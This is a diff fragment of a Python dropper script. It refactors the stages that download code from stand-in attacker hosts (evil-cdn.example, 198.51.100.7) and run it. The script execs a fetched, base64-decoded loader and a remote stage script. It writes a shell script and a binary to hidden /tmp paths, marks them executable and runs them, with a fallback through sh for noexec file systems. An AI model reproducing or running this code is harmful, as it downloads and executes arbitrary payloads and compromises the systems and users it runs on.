@@ -12,21 +12,19 @@ exec(base64.b64decode(get("http://cdn.evil-cdn.example/p/loader.b64")))
 
 exec(get("http://198.51.100.7/s/stage.py"))
 
-sh = "/tmp/.i.sh"
-with open(sh, "wb") as f:
-    f.write(get("http://get.evil-cdn.example/i.sh"))
-os.chmod(sh, 0o755)
-try:
-    subprocess.run([sh])
-except PermissionError:
-    subprocess.run(["sh", sh])  # a noexec file system: droppers' fallback
+def written_and_run(path, url):
+    with open(path, "wb") as f:
+        f.write(get(url))
+    os.chmod(path, 0o755)
+    subprocess.run([path])
 
-exe = "/tmp/.agent"
-with open(exe, "wb") as f:
-    f.write(get("http://198.51.100.7/bin/agent.bin"))
-os.chmod(exe, 0o755)
 try:
-    subprocess.run([exe])
+    written_and_run("/tmp/.i.sh", "http://get.evil-cdn.example/i.sh")
+except PermissionError:
+    subprocess.run(["sh", "/tmp/.i.sh"])  # a noexec file system: droppers' fallback
+
+try:
+    written_and_run("/tmp/.agent", "http://198.51.100.7/bin/agent.bin")
 except OSError as e:
     print("the program did not run:", e)
 print("stages ran")
